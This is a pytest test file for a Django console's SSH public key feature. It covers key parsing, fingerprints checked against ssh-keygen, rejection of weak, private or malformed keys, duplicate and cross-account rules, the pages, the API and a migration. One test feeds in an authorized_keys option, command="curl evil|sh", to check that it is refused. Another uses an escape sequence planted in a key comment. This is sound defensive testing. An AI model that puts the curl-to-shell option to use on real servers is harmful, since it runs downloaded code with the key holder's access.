from __future__ import annotations

import base64
import re
import struct
import subprocess
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse

from console import services
from console.models import SshKey
from console.sshkeys import SshKeyError, parse_public_key
from tests.console.factories import (
    ecdsa_public_key,
    ed25519_public_key,
    make_ssh_key,
    padded_rsa_key,
    rsa_public_key,
)


def _blob(*fields: bytes) -> str:
    return base64.b64encode(b"".join(struct.pack(">I", len(f)) + f for f in fields)).decode()


_BAD_POINT = b"\x04" + b"\x01" * 64  # uncompressed point, not on P-256


@pytest.fixture
def eight_keys(alice) -> None:  # noqa: ANN001
    """Alice has eight keys: enough for a list's query count to show an N+1."""
    for _ in range(8):
        make_ssh_key(alice)


# --- parsing (no database) ----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "key_type", "bits"),
    [
        # Generated keys: a fixed id each (pytest-xdist's workers must collect the same ids).
        pytest.param(ed25519_public_key("alice@laptop"), "ssh-ed25519", 256, id="ed25519"),
        (ecdsa_public_key(ec.SECP256R1()), "ecdsa-sha2-nistp256", 256),
        (ecdsa_public_key(ec.SECP384R1()), "ecdsa-sha2-nistp384", 384),
        (ecdsa_public_key(ec.SECP521R1()), "ecdsa-sha2-nistp521", 521),
        (rsa_public_key(2048), "ssh-rsa", 2048),
        (rsa_public_key(3072), "ssh-rsa", 3072),
    ],
)
def test_supported_keys_parse_with_type_and_length(text: str, key_type: str, bits: int) -> None:
    key = parse_public_key(text + "\n")
    assert (key.key_type, key.bits) == (key_type, bits)
    assert key.openssh == " ".join(text.split()[:2])


def test_fingerprint_and_comment_match_ssh_keygen(tmp_path: Path) -> None:
    path = tmp_path / "id_ed25519"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice@lab", "-f", str(path)],
        check=True,
    )
    listed = subprocess.run(
        ["ssh-keygen", "-l", "-E", "sha256", "-f", f"{path}.pub"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    key = parse_public_key(path.with_suffix(".pub").read_text())
    assert key.fingerprint == listed[1]
    assert key.comment == "alice@lab"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty"),
        ("   \n ", "empty"),
        (
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
            "private_key",
        ),
        (
            "---- BEGIN SSH2 PUBLIC KEY ----\nAAAAB3NzaC1yc2E=\n---- END SSH2 PUBLIC KEY ----",
            "rfc4716",
        ),
        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP== old@box", "unsupported_type"),
        (
            "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAI key",
            "unsupported_type",
        ),
        ("ssh-ed25519", "malformed"),
        ("ssh-ed25519 not-base64!!! me", "malformed"),
        ("hello world", "unsupported_type"),
        ("garbage", "malformed"),
        (f"ssh-ed25519 {_blob(b'ssh-ed25519', b'short')}", "malformed"),
        (f"ssh-ed25519 {_blob(b'ssh-rsa', b'x' * 32)}", "type_mismatch"),
        (f"ssh-ed25519 {_blob(b'ssh-ed25519', b'x' * 32, b'trailing')}", "malformed"),
        (f"ssh-ed25519 {_blob(b'ssh-ed25519')}", "malformed"),
        (
            f"ecdsa-sha2-nistp256 {_blob(b'ecdsa-sha2-nistp256', b'nistp256', _BAD_POINT)}",
            "malformed",
        ),
        (
            f"ecdsa-sha2-nistp256 {_blob(b'ecdsa-sha2-nistp256', b'nistp384', _BAD_POINT)}",
            "type_mismatch",
        ),
        pytest.param(rsa_public_key(1024), "rsa_too_short", id="rsa-1024"),
        pytest.param(
            ed25519_public_key() + "\n" + ed25519_public_key(), "multiple_lines", id="two-keys"
        ),
        pytest.param(ed25519_public_key("evil\x1b[31m"), "comment_characters", id="escape"),
        pytest.param(ed25519_public_key("x" * 300), "comment_too_long", id="long-comment"),
        ("ssh-ed25519 " + "A" * 9000, "too_long"),
    ],
)
def test_malformed_or_weak_keys_are_refused_with_a_reason(text: str, code: str) -> None:
    with pytest.raises(SshKeyError) as excinfo:
        parse_public_key(text)
    assert excinfo.value.code == code


def test_authorized_keys_options_are_not_accepted() -> None:
    key = ed25519_public_key()
    with pytest.raises(SshKeyError):
        parse_public_key(f'command="curl evil|sh",no-pty {key}')


# --- services -----------------------------------------------------------------------------------
@pytest.mark.django_db
def test_first_key_becomes_default_and_a_later_one_can_take_over(alice) -> None:
    first = make_ssh_key(alice, name="laptop")
    second = make_ssh_key(alice, name="desktop")
    assert first.is_default and not second.is_default
    services.set_default_ssh_key(alice, second)
    assert list(SshKey.objects.for_owner(alice).defaults()) == [second]
    assert services.get_default_ssh_key(alice) == second


@pytest.mark.django_db
def test_deleting_the_default_key_promotes_the_newest_remaining(alice) -> None:
    default = make_ssh_key(alice, name="a")
    make_ssh_key(alice, name="b")
    newest = make_ssh_key(alice, name="c")
    assert services.delete_ssh_key(alice, default)
    assert services.get_default_ssh_key(alice) == newest
    assert not services.delete_ssh_key(alice, default)  # already gone: nothing happens


@pytest.mark.django_db
def test_the_same_key_twice_is_refused_and_another_customer_may_not_add_it(alice, bob) -> None:
    text = ed25519_public_key("shared@lab")
    services.add_ssh_key(alice, name="lab", public_key=text)
    with pytest.raises(ValidationError) as excinfo:
        services.add_ssh_key(alice, name="lab again", public_key=text.replace("shared@lab", "x"))
    assert excinfo.value.error_dict["public_key"][0].code == "duplicate"
    # One key, one account (the region gateways let a key through to its owner's instances).
    with pytest.raises(ValidationError) as excinfo:
        services.add_ssh_key(bob, name="lab", public_key=text.replace("shared@lab", "bob@lab"))
    assert excinfo.value.error_dict["public_key"][0].code == "in_use"
    assert SshKey.objects.for_owner(alice).count() == 1
    assert not SshKey.objects.for_owner(bob).exists()


@pytest.mark.django_db
def test_stored_key_is_canonical_and_its_comment_cannot_inject_a_line(alice) -> None:
    text = ed25519_public_key("alice@laptop")
    key = services.add_ssh_key(alice, name="", public_key="  " + text + "  \n")
    assert key.name == "alice@laptop"
    assert key.authorized_keys_line == text
    assert "\n" not in key.authorized_keys_line


# --- pages --------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_key_page_adds_lists_with_fingerprint_and_deletes(alice, alice_client: Client) -> None:
    text = ed25519_public_key("alice@laptop")
    response = alice_client.post(
        reverse("account:ssh-key-list"), {"name": "Laptop", "public_key": text}, follow=True
    )
    key = SshKey.objects.get(owner=alice)
    html = response.content.decode()
    assert key.fingerprint in html and "alice@laptop" in html and "Laptop" in html
    response = alice_client.post(reverse("account:ssh-key-delete", args=[key.public_id]))
    assert response.status_code == 302
    assert not SshKey.objects.filter(owner=alice).exists()


@pytest.mark.django_db
def test_htmx_add_returns_the_panel_with_the_new_key(alice_client: Client) -> None:
    response = alice_client.post(
        reverse("account:ssh-key-list"),
        {"name": "ci", "public_key": ed25519_public_key()},
        headers={"HX-Request": "true"},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith('<div id="keys-panel"')
    assert "<html" not in html and "ci" in html


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("ssh-ed25519 AAAA!!", "not a valid OpenSSH public key"),
        (rsa_public_key(1024), "at least 2048"),
        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP== old", "not supported"),
        (
            "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----",
            "PRIVATE key",
        ),
    ],
)
def test_refused_key_shows_its_reason_and_stores_nothing(
    alice_client: Client, text: str, message: str
) -> None:
    alice_client.post(reverse("set_language"), {"language": "en", "next": "/"})
    response = alice_client.post(reverse("account:ssh-key-list"), {"name": "x", "public_key": text})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not SshKey.objects.exists()


@pytest.mark.django_db
def test_duplicate_key_page_message(alice, alice_client: Client) -> None:
    alice_client.post(reverse("set_language"), {"language": "en", "next": "/"})
    text = ed25519_public_key()
    services.add_ssh_key(alice, name="laptop", public_key=text)
    response = alice_client.post(reverse("account:ssh-key-list"), {"name": "x", "public_key": text})
    assert "You have already added this key (as “laptop”)" in response.content.decode()
    assert SshKey.objects.count() == 1


@pytest.mark.django_db
def test_key_list_page_query_count_does_not_grow_with_keys(
    eight_keys, alice_client: Client, django_assert_max_num_queries
) -> None:
    with django_assert_max_num_queries(6):
        response = alice_client.get(reverse("account:ssh-key-list"))
    assert len(re.findall(r'id="key-[0-9a-f]{8}-', response.content.decode())) == 8


@pytest.mark.django_db
def test_default_can_be_changed_on_the_page(alice, alice_client: Client) -> None:
    make_ssh_key(alice, name="one")
    two = make_ssh_key(alice, name="two")
    alice_client.post(reverse("account:ssh-key-set-default", args=[two.public_id]))
    assert services.get_default_ssh_key(alice) == two


# --- API ----------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_api_adds_lists_sets_default_and_deletes(alice, alice_client: Client, bob) -> None:
    make_ssh_key(bob)
    response = alice_client.post(
        "/api/v1/ssh-keys/",
        {"name": "api", "public_key": ed25519_public_key("a@b")},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["fingerprint"].startswith("SHA256:") and body["is_default"] is True
    second = make_ssh_key(alice)
    listed = alice_client.get("/api/v1/ssh-keys/").json()
    assert {k["id"] for k in listed["results"]} == {body["id"], str(second.public_id)}
    response = alice_client.post(f"/api/v1/ssh-keys/{second.public_id}/set-default/")
    assert response.json()["is_default"] is True
    assert alice_client.delete(f"/api/v1/ssh-keys/{body['id']}/").status_code == 204
    assert SshKey.objects.for_owner(alice).count() == 1


@pytest.mark.django_db
def test_api_refuses_a_malformed_key_with_the_error_body(alice_client: Client) -> None:
    response = alice_client.post(
        "/api/v1/ssh-keys/", {"public_key": "ssh-rsa AAAA"}, content_type="application/json"
    )
    assert response.status_code == 400
    body = response.json()
    assert body["error"] == "invalid" and "public_key" in body["fields"]


@pytest.mark.django_db
def test_api_ignores_owner_fingerprint_and_other_read_only_fields(
    alice, bob, alice_client: Client
) -> None:
    response = alice_client.post(
        "/api/v1/ssh-keys/",
        {
            "name": "mine",
            "public_key": ed25519_public_key(),
            "owner": bob.pk,
            "fingerprint": "SHA256:forged",
            "bits": 1,
            "id": "00000000-0000-0000-0000-000000000001",
        },
        content_type="application/json",
    )
    assert response.status_code == 201
    key = SshKey.objects.get()
    assert key.owner == alice and key.fingerprint != "SHA256:forged" and key.bits == 256
    assert str(key.public_id) != "00000000-0000-0000-0000-000000000001"


@pytest.mark.django_db
def test_api_list_query_count_does_not_grow_with_keys(
    eight_keys, alice_client: Client, django_assert_max_num_queries
) -> None:
    with django_assert_max_num_queries(5):
        response = alice_client.get("/api/v1/ssh-keys/")
    assert response.json()["count"] == 8


@pytest.mark.django_db
def test_api_refuses_nul_characters_and_oversized_input(alice_client: Client) -> None:
    for payload in (
        {"name": "bad\x00name", "public_key": ed25519_public_key()},
        {"name": "x" * 101, "public_key": ed25519_public_key()},
        {"public_key": "ssh-ed25519 " + "A" * 9000},
        {"public_key": ["not", "a", "string"]},
    ):
        response = alice_client.post("/api/v1/ssh-keys/", payload, content_type="application/json")
        assert response.status_code == 400, (payload, response.content)
    assert not SshKey.objects.exists()


# --- one key, one encoding, one account (issue 29) -----------------------------------------------
def test_a_zero_padded_rsa_key_parses_to_the_same_key_and_ssh_keygens_fingerprint(
    tmp_path: Path,
) -> None:
    text = rsa_public_key(2048, "owner@lab")
    padded = padded_rsa_key(text, zeros=2)
    assert padded.split()[1] != text.split()[1]
    (tmp_path / "padded.pub").write_text(padded + "\n")
    listed = subprocess.run(
        ["ssh-keygen", "-l", "-E", "sha256", "-f", str(tmp_path / "padded.pub")],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    key, again = parse_public_key(text), parse_public_key(padded)
    assert again.openssh == key.openssh == " ".join(text.split()[:2])
    assert again.fingerprint == key.fingerprint == listed[1]
    assert again.bits == 2048


def test_a_compressed_ecdsa_point_is_refused() -> None:
    """Another encoding of an ECDSA key (sshd reads none but the uncompressed point)."""
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    point = (
        ec.generate_private_key(ec.SECP256R1())
        .public_key()
        .public_bytes(Encoding.X962, PublicFormat.CompressedPoint)
    )
    with pytest.raises(SshKeyError) as excinfo:
        parse_public_key(f"ecdsa-sha2-nistp256 {_blob(b'ecdsa-sha2-nistp256', b'nistp256', point)}")
    assert excinfo.value.code == "malformed"


@pytest.mark.django_db
def test_a_re_encoded_key_of_another_account_is_refused_on_the_page_and_the_api(
    alice, bob, bob_client: Client
) -> None:
    text = rsa_public_key(2048, "alice@lab")
    services.add_ssh_key(alice, name="lab", public_key=text)
    padded = padded_rsa_key(text)
    with pytest.raises(ValidationError) as excinfo:
        services.add_ssh_key(bob, name="lab", public_key=padded)
    assert excinfo.value.error_dict["public_key"][0].code == "in_use"
    response = bob_client.post(
        "/api/v1/ssh-keys/", {"name": "x", "public_key": padded}, content_type="application/json"
    )
    assert response.status_code == 400, response.content
    body = response.json()
    assert "public_key" in body["fields"]
    assert "其他账号" in str(body["fields"]["public_key"])  # zh-hans, the default language
    # Her own second encoding is her duplicate.
    with pytest.raises(ValidationError) as excinfo:
        services.add_ssh_key(alice, name="again", public_key=padded)
    assert excinfo.value.error_dict["public_key"][0].code == "duplicate"
    assert not SshKey.objects.filter(owner=bob).exists()


@pytest.mark.django_db
def test_the_database_holds_one_account_per_fingerprint(alice, bob) -> None:
    from django.db import IntegrityError, transaction

    key = services.add_ssh_key(alice, name="lab", public_key=rsa_public_key())
    with pytest.raises(IntegrityError), transaction.atomic():
        SshKey.objects.create(
            owner=bob,
            name="lab",
            key_type=key.key_type,
            public_key=key.public_key,
            fingerprint=key.fingerprint,
            bits=key.bits,
        )


@pytest.mark.django_db
def test_the_migration_canonicalises_stored_keys_and_keeps_the_first_account(alice, bob) -> None:
    """Rows written before the fix (a padded encoding, its blob's own fingerprint; the same key on
    two accounts) become one canonical key of the account that added it first."""
    import hashlib
    import importlib

    from django.apps import apps

    migration = importlib.import_module("console.migrations.0004_sshkey_canonical_fingerprint")
    text = rsa_public_key(2048)
    canonical = parse_public_key(text)
    padded = padded_rsa_key(text)
    blob = base64.b64decode(padded.split()[1])  # what the old parser stored: the pasted blob
    old_print = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    first = SshKey.objects.create(
        owner=alice,
        name="a",
        key_type="ssh-rsa",
        public_key=" ".join(padded.split()[:2]),
        fingerprint=old_print,
        bits=2048,
        is_default=True,
    )
    other = make_ssh_key(bob, name="other")
    SshKey.objects.filter(pk=other.pk).update(is_default=False)
    SshKey.objects.create(
        owner=bob,
        name="b",
        key_type="ssh-rsa",
        public_key=canonical.openssh,
        fingerprint=canonical.fingerprint,
        bits=2048,
        is_default=True,
    )
    migration.canonicalise(apps, None)
    first.refresh_from_db()
    assert (first.public_key, first.fingerprint) == (canonical.openssh, canonical.fingerprint)
    assert list(SshKey.objects.filter(owner=bob)) == [other]
    assert SshKey.objects.get(owner=bob).is_default  # his default went: the newest took over
